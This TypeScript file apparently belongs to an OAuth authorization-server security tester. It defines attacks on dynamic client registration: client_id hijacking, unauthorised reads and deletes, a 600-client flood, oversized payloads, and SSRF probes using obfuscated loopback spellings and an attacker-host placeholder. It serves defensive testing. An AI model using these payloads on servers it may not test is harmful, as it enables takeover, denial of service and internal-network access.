import { createServer } from 'node:net'
import { type Attack, allOf, CouldNotTry, safe, vulnerable } from '../attack.ts'
import { credentialsOf } from '../client.ts'
import { authorizationUrl } from '../grant.ts'
import { createSigningKey } from '../jwt.ts'
import { evilHost, redirectUri, type Stage } from '../stage.ts'

/** Registration by anybody, and what the server fetches in their name (RFC 7591 §5, RFC 9700 §4.15; law 8). */
export const registrationAttacks: readonly Attack[] = [
  {
    id: 'registration-overwrites',
    from: ['RFC 7591 §5', 'RFC 9700 §4.15'],
    tries: 'registers with the client_id of another client, to have its redirect URI',
    safe: 'the client_id is not taken from the request',
    async run(stage) {
      const client = await stage.client()
      const { status, json } = await stage.register({
        client_id: client.clientId,
        redirect_uris: [`https://${evilHost}/cb`],
      })
      return status <= 201 && json.client_id === client.clientId
        ? vulnerable('the client_id of another client is given')
        : safe(`answered ${status}, with another client_id or none`)
    },
  },
  {
    id: 'registration-chooses-id',
    from: ['RFC 9700 §4.15 (clients do not influence their client_id)'],
    tries: 'registers with a client_id of its choice, such as the name of a person',
    safe: 'the client_id is not taken from the request',
    async run(stage) {
      const { status, json } = await stage.register({ client_id: 'alice', sub: 'alice' })
      return status <= 201 && json.client_id === 'alice'
        ? vulnerable('the client_id is what was asked for')
        : safe(`answered ${status}`)
    },
  },
  {
    id: 'registration-read-by-others',
    from: ['RFC 7592 §2', 'RFC 7592 §5'],
    tries: 'reads, changes and deletes a registration without its token and with the token of another client',
    safe: '401 or 403',
    async run(stage) {
      const [own, other] = [await stage.register(), await stage.register({ client_name: 'Other' })]
      const url = own.json.registration_client_uri
      if (typeof url !== 'string') throw new CouldNotTry('not offered', 'registrations cannot be managed')
      const found: (string | undefined)[] = []
      for (const [how, headers] of [
        ['without a token', {}],
        ["with another's token", { authorization: `Bearer ${other.json.registration_access_token}` }],
      ] as const)
        for (const method of ['GET', 'DELETE']) {
          const { status } = await stage.send({ method, url, headers })
          found.push(status < 300 ? `${method} ${how} is answered with ${status}` : undefined)
        }
      return allOf(found, 'each was refused')
    },
  },
  {
    id: 'registration-flood',
    from: ['RFC 7591 §5', 'field.md 2.3 9', 'library-peers.md 15'],
    tries: 'registers clients without end from one address (600)',
    safe: 'refused after a while (429 or another 4xx)',
    async run(stage) {
      const first = await stage.register()
      if (first.status > 201) return safe(`nobody can register: ${first.status}`)
      if (!stage.mayFlood) throw new CouldNotTry('no means', 'it would leave hundreds of clients behind: see --flood')
      for (let count = 1; count <= 600; count++) {
        const { status } = await stage.send({
          method: 'POST',
          url: stage.endpoint('registration_endpoint'),
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify({
            redirect_uris: [`${redirectUri}/${count}`],
            client_name: `Flood ${count}`,
            token_endpoint_auth_method: 'none',
          }),
          mindsLimits: true,
        })
        if (status >= 400) return safe(`after ${count} the answer is ${status}`)
      }
      return vulnerable('600 clients were registered in a row')
    },
  },
  {
    id: 'registration-huge',
    from: ['RFC 7591 §5', 'library-peers.md 15'],
    tries: 'registers a client with 5,000 redirect URIs, a name of 100,000 characters and keys by the hundred',
    safe: 'refused, or cut down to what is reasonable',
    async run(stage) {
      const found: (string | undefined)[] = []
      const uris = Array.from({ length: 5000 }, (_, at) => `https://${evilHost}/${at}`)
      const many = await stage.register({ redirect_uris: uris })
      const kept = Array.isArray(many.json.redirect_uris) ? many.json.redirect_uris.length : 5000
      found.push(many.status <= 201 && kept > 1000 ? `${kept} redirect URIs are registered` : undefined)
      const named = await stage.register({ client_name: 'x'.repeat(100_000) })
      const name = typeof named.json.client_name === 'string' ? named.json.client_name.length : 0
      found.push(named.status <= 201 && name > 10_000 ? `a name of ${name} characters is registered` : undefined)
      return allOf(found, `answered ${many.status} and ${named.status}`)
    },
  },
  {
    id: 'fetch-of-registration',
    from: ['RFC 7591 §5', 'OpenID Connect Registration §9.1', 'law 8'],
    tries:
      'has the server fetch from its own machine: jwks_uri, logo_uri, sector_identifier_uri, request_uris of a registration, and uses the client',
    safe: 'no connection comes',
    run: (stage) =>
      listened(stage, async (address) => {
        for (const base of addresses(address)) {
          for (const field of ['logo_uri', 'client_uri', 'policy_uri', 'tos_uri', 'sector_identifier_uri'])
            await stage.register({ [field]: `${base}/${field}` })
          await stage.register({ request_uris: [`${base}/request`] })
          await stage.register({ initiate_login_uri: `${base}/login`, software_statement: 'x.y.z' })
          const { json } = await stage.register({
            token_endpoint_auth_method: 'private_key_jwt',
            jwks_uri: `${base}/jwks`,
          })
          const { client_id: clientId } = json
          if (typeof clientId !== 'string') continue
          const client = {
            clientId,
            redirectUri,
            method: 'private_key_jwt',
            key: createSigningKey(),
            registered: json,
          } as const
          const { parameters } = credentialsOf(client, stage.target.issuer)
          const body = new URLSearchParams({ ...parameters, grant_type: 'refresh_token', refresh_token: 'attack' })
          await stage.send({ method: 'POST', url: stage.endpoint('token_endpoint'), body })
          await stage.stranger().open((await authorizationUrl(stage, client)).url)
        }
      }),
  },
  {
    id: 'fetch-of-request',
    from: ['RFC 9101 §10.4', 'RFC 9126 §7', 'law 8'],
    tries: 'has the server fetch from its own machine by request_uri, in an authorization request',
    safe: 'no connection comes',
    run: (stage) =>
      listened(stage, async (address) => {
        const client = await stage.client()
        for (const base of addresses(address)) {
          const { url } = await authorizationUrl(stage, client, { request_uri: `${base}/request` })
          await stage.stranger().open(url)
          await (await stage.person()).open(url)
        }
      }),
  },
  {
    id: 'fetch-of-client-document',
    from: ['law 8', 'AS-18', 'AS-25', 'draft-ietf-oauth-client-id-metadata-document §6.5'],
    tries:
      'names a client whose document is on the machine of the server: by address, by name, as IPv6, in odd spellings, signed out and signed in',
    safe: 'no connection comes',
    async run(stage) {
      if (stage.target.metadata.client_id_metadata_document_supported !== true)
        throw new CouldNotTry('not offered', 'client metadata documents are not advertised')
      return listened(stage, async (address) => {
        for (const base of addresses(address)) {
          const client = { clientId: `${base}/client.json`, redirectUri, method: 'none', registered: {} } as const
          const { url } = await authorizationUrl(stage, client)
          await stage.stranger().open(url)
          await (await stage.person()).open(url)
        }
      })
    },
  },
]

/** The ways in which an URL can name this machine. */
function addresses(port: number): readonly string[] {
  return [
    `https://127.0.0.1:${port}`,
    `https://localhost:${port}`,
    `https://localhost.:${port}`,
    `https://2130706433:${port}`,
    `https://0x7f.1:${port}`,
    `https://0.0.0.0:${port}`,
    `https://[::ffff:127.0.0.1]:${port}`,
    `http://127.0.0.1:${port}`,
  ]
}

/** Listens on this machine while the server is tempted, and says whether a connection came. */
async function listened(stage: Stage, tempt: (port: number) => Promise<void>) {
  if (!stage.target.isLoopback)
    throw new CouldNotTry('no means', 'whether a server elsewhere connects to itself cannot be seen from here')
  let connections = 0
  const server = createServer((socket) => {
    connections++
    socket.on('error', () => {})
    socket.destroy()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  try {
    const address = server.address()
    if (address === null || typeof address === 'string') throw new TypeError('A TCP server has a port')
    await tempt(address.port)
    return connections > 0
      ? vulnerable(`the server connected ${connections} times to what it was told to`)
      : safe('no connection came')
  } finally {
    server.close()
  }
}
